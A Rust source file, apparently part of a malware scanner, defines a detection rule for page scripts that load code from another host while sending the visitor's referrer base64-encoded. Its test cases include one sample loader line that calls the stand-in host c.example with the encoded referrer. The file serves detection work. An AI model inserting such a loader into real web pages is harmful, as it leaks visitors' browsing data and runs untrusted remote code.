//! `referrer-coded-for-script`.

use crate::facts::Atom;
use crate::signals::near::Near;
use crate::signals::{Evidence, Held, Signal, one};
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "referrer-coded-for-script",
    description: "The script loads code from another host and sends it, encoded, the site the visitor comes from.",
    severity: Severity::High,
    classes: ClassSet::MALWARE,
    needs: &[
        one(&[Atom::ReferrerInScript, Atom::ReferrerAsked]),
        one(&[Atom::ReferrerInScript, Atom::RemoteRun]),
    ],
    within: 60,
    only_if: Some(is_told_here),
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            r#"var s=document.createElement('script');s.src='https://c.example/counts.php?t='+btoa(document.referrer||'-');document.head.appendChild(s)"#,
        ],
        without: &[
            r#"var s=document.createElement('script');s.src='https://c.example/a.js?r='+encodeURIComponent(document.referrer);document.head.appendChild(s)"#,
            r#"var s=document.createElement('script');s.src='/counts.php?t='+btoa(document.referrer);document.head.appendChild(s)"#,
        ],
    },
};

/// Whether it is read and coded just before. In a bundle, values of many modules mix.
fn is_told_here(evidence: &Evidence<'_>, held: Held) -> bool {
    let near = Near::new(evidence, held, AROUND);
    near.has_fact(&[Atom::Referrer]) && near.has_fact(&[Atom::Base64Encode])
}

/// Items between the referrer and the script that is loaded.
const AROUND: usize = 60;
